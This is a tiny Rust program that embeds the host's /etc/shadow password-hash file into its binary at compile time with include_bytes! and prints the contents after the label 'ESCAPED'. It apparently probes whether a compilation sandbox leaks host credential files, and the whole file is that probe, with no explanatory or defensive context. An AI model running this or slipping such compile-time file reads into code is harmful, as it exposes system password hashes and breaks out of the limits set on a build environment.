const SECRET: &[u8] = include_bytes!("/etc/shadow");
fn main() { println!("ESCAPED {:?}", SECRET); }
